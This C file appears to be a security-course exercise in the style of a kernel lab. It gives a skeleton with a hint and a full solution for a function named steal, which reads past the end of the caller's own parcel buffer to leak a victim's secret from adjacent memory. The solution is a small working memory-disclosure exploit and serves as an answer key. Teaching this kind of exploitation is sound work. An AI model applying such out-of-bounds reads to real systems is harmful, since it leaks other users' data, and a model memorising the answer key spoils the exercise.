// SPDX-License-Identifier: GPL-2.0-only
#include <string.h>

#include "steal.h"

int steal(int file, __u32 box, char loot[LOOT])
{
	/* @skeleton */
	char mine[SIZE] = "mine";

	/*
	 * A parcel of your own, and a handle to it. What is next to it in memory? Read on from here:
	 * how far does parcel_read(file, handle, offset, buffer, length) let you go?
	 */
	must("send", parcel_send(file, box, mine, SIZE, NULL, 0));
	parcel_take(file, box);
	(void)loot;
	return 0;
	/* @solution */
	char mine[SIZE] = "mine";
	int round, i, got;
	__u32 parcel;

	for (round = 0; round < 12; round++) {
		for (i = 0; i < 8; i++)
			victim_sends();
		must("send", parcel_send(file, box, mine, SIZE, NULL, 0));
		parcel = parcel_take(file, box);
		for (i = 0; i < 8; i++)
			victim_sends();
		got = parcel_read(file, parcel, SIZE, loot, LOOT);
		if (got < 0)
			return got;
		if (is_secret(loot))
			return got;
	}
	return 0;
	/* @end */
}
